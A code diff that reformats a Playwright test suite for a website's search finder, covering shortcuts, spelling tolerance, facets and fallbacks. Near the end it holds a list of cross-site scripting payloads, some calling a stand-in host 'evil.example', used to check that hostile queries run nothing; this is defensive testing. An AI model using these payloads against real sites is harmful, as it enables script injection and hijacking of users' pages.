@@ -69,7 +69,16 @@ def test_escape_closes_and_focus_returns_to_where_it_was(page, address):
     assert link.evaluate("(one) => one === document.activeElement")
 
 
-@pytest.mark.parametrize("typed, where", [("E3", "examples/e3/"), ("b2", "behaviours/b2/"), ("example 3", "examples/e3/"), ("f12", "themes/t2/#f12"), ("example five", "examples/e5/")])
+@pytest.mark.parametrize(
+    "typed, where",
+    [
+        ("E3", "examples/e3/"),
+        ("b2", "behaviours/b2/"),
+        ("example 3", "examples/e3/"),
+        ("f12", "themes/t2/#f12"),
+        ("example five", "examples/e5/"),
+    ],
+)
 def test_a_code_goes_straight_to_its_record(page, address, typed, where):
     page.goto(address)
     page.keyboard.press("Control+k")
@@ -127,7 +136,11 @@ def test_the_index_is_fetched_on_first_use_only(context, address):
 
 def test_the_bare_finder_lists_every_record(page, address, base):
     open_finder(page, address)
-    live = {record.code for kind in ("example", "finding", "behaviour", "theme", "question", "term") for record in base.live(kind)}
+    live = {
+        record.code
+        for kind in ("example", "finding", "behaviour", "theme", "question", "term")
+        for record in base.live(kind)
+    }
     assert live <= set(records(page)) and state(page) == "results"
 
 
@@ -141,7 +154,14 @@ def test_what_was_understood_is_shown_and_false_friends_are_told(page, address):
 
 @pytest.mark.parametrize(
     "query, wanted",
-    [("saveguarding audit", "e5"), ("co location", "e3"), ("colocation", "e3"), ("co-location", "e3"), ("focusing on outcomes", "b6"), ("organisational silos", "e1")],
+    [
+        ("saveguarding audit", "e5"),
+        ("co location", "e3"),
+        ("colocation", "e3"),
+        ("co-location", "e3"),
+        ("focusing on outcomes", "b6"),
+        ("organisational silos", "e1"),
+    ],
 )
 def test_spelling_hyphens_and_stems_are_forgiven(page, address, query, wanted):
     open_finder(page, address, f"?q={quote(query)}")
@@ -149,7 +169,14 @@ def test_spelling_hyphens_and_stems_are_forgiven(page, address, query, wanted):
 
 
 @pytest.mark.parametrize(
-    "query, wanted", [("facilitator notes", "training"), ("print workbook", "workbook"), ("moodle", "training"), ("build a training pack", "training/pack"), ("download the data as a spreadsheet", "data")]
+    "query, wanted",
+    [
+        ("facilitator notes", "training"),
+        ("print workbook", "workbook"),
+        ("moodle", "training"),
+        ("build a training pack", "training/pack"),
+        ("download the data as a spreadsheet", "data"),
+    ],
 )
 def test_the_pages_for_trainers_are_found(page, address, query, wanted):
     open_finder(page, address, f"?q={quote(query)}")
@@ -174,7 +201,9 @@ def test_an_address_with_facets_opens_fresh_as_it_was_shared(page, address, base
     open_finder(page, address, "?q=budget&people=health")
     assert page.locator("input[name=people][value=health]").is_checked()
     assert records(page)[0] == "e7"
-    assert set(records(page)) <= {code for code, entry in base.entries.items() if "health" in getattr(entry.record, "people", [])}
+    assert set(records(page)) <= {
+        code for code, entry in base.entries.items() if "health" in getattr(entry.record, "people", [])
+    }
     open_finder(page, address, "?challenge=silo-working&kind=example")
     assert set(records(page)) == {record.code for record in base.live("example") if "silo-working" in record.challenges}
 
@@ -194,7 +223,11 @@ def test_an_honest_nothing_says_so_and_offers_ways_on(page, address):
         assert state(page) == "nothing" and records(page) == []
         assert "no answer" in page.locator("[data-search]").inner_text()
         offered = page.locator("[data-search] a").evaluate_all("(all) => all.map((one) => one.href)")
-        assert any("/themes/" in href for href in offered) and any("challenge=" in href for href in offered) and any("/glossary/" in href for href in offered)
+        assert (
+            any("/themes/" in href for href in offered)
+            and any("challenge=" in href for href in offered)
+            and any("/glossary/" in href for href in offered)
+        )
 
 
 def test_without_javascript_the_finder_is_the_full_list(browser, address, base):
@@ -218,13 +251,33 @@ def test_without_its_index_the_finder_says_so_and_shows_the_full_list(page, addr
 
 PAYLOADS = [
     form.format(code)
-    for code in ("window.hit=1", "document.body.innerHTML=''", "fetch('//evil.example')", "top.location='//evil.example'", "alert(1)")
-    for form in (
-        "<script>{}</script>", "<img src=x onerror={}>", "'\"><svg onload={}>", "javascript:{}", "</title><script>{}</script>", "${{{}}}", "{{{{constructor.constructor('{}')()}}}}",
-        "<iframe srcdoc='<script>parent.{}</script>'>", "\"onfocus={} autofocus x=\"", "<a href=javascript:{}>x</a>", "<details open ontoggle={}>", "</li></ol><script>{}</script>",
-        "__proto__[{}]", "constructor {}", "<math><mtext><img src onerror={}></mtext></math>", "%3Cscript%3E{}%3C/script%3E", "\u202e<script>{}</script>",
+    for code in (
+        "window.hit=1",
+        "document.body.innerHTML=''",
+        "fetch('//evil.example')",
+        "top.location='//evil.example'",
+        "alert(1)",
     )
-]  # fmt: skip
+    for form in (
+        "<script>{}</script>",
+        "<img src=x onerror={}>",
+        "'\"><svg onload={}>",
+        "javascript:{}",
+        "</title><script>{}</script>",
+        "${{{}}}",
+        "{{{{constructor.constructor('{}')()}}}}",
+        "<iframe srcdoc='<script>parent.{}</script>'>",
+        '"onfocus={} autofocus x="',
+        "<a href=javascript:{}>x</a>",
+        "<details open ontoggle={}>",
+        "</li></ol><script>{}</script>",
+        "__proto__[{}]",
+        "constructor {}",
+        "<math><mtext><img src onerror={}></mtext></math>",
+        "%3Cscript%3E{}%3C/script%3E",
+        "\u202e<script>{}</script>",
+    )
+]
 
 
 def test_hostile_queries_run_nothing(context, address):
@@ -238,16 +291,29 @@ def test_hostile_queries_run_nothing(context, address):
     open_finder(page, address)
     tried = 0
     for number in range(500):
-        payload = PAYLOADS[number % len(PAYLOADS)] + " " * (number // len(PAYLOADS)) + ["", "budget", "E3", "LAC", "<b>", "'"][number % 6]
-        part = [f"?q={quote(payload)}", f"?q=a&kind={quote(payload)}", f"?q=silo#{quote(payload)}", f"?{quote(payload)}=x"][number % 4]
-        page.evaluate("(to) => { history.pushState(null, '', to); dispatchEvent(new PopStateEvent('popstate')); }", part)
+        payload = (
+            PAYLOADS[number % len(PAYLOADS)]
+            + " " * (number // len(PAYLOADS))
+            + ["", "budget", "E3", "LAC", "<b>", "'"][number % 6]
+        )
+        part = [
+            f"?q={quote(payload)}",
+            f"?q=a&kind={quote(payload)}",
+            f"?q=silo#{quote(payload)}",
+            f"?{quote(payload)}=x",
+        ][number % 4]
+        page.evaluate(
+            "(to) => { history.pushState(null, '', to); dispatchEvent(new PopStateEvent('popstate')); }", part
+        )
         tried += 1
     for payload in PAYLOADS[::6]:
         open_finder(page, address, f"?q={quote(payload)}")
         page.get_by_role("combobox", name="Search").fill(payload)
     assert tried == 500
     assert outside == [] and errors == []
-    assert page.evaluate("window.hit === undefined && document.querySelectorAll('[data-search] :is(script, img, svg, iframe)').length === 0")
+    assert page.evaluate(
+        "window.hit === undefined && document.querySelectorAll('[data-search] :is(script, img, svg, iframe)').length === 0"
+    )
 
 
 @pytest.mark.parametrize("scheme", ["light", "dark"])
